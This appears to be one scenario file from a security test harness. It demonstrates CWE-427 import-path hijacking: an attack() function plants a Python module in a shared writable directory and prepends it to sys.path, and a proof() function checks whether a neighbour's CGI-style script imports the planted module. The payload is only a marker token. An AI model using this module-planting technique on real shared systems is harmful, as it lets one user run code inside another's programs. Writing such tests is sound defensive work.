"""Leave one's own directory on the import path."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

PRECEDENT = "CWE-427: an import path that others can write to"
CONTROL = "careless_rest"


def attack(given: Given) -> object:
    import os
    import sys

    path = f"{given.drop}/settings_of_the_site.py"
    with open(path, "w") as file:
        file.write(f"WORD = {given.token!r}\n")
    os.chmod(path, 0o644)
    sys.path.insert(0, given.drop)
    return "planted"


def proof(scene: Scene) -> str | None:
    scene.put(
        "importing.py",
        "try:\n    import settings_of_the_site as settings\n    word = settings.WORD\n"
        "except ImportError:\n    word = 'none'\n"
        "print('Content-Type: text/plain\\n\\n' + word)\n",
    )
    if scene.token.encode() in scene.visit("importing.py").body:
        return "the neighbour's script ran a module of the attacker's"
    return None
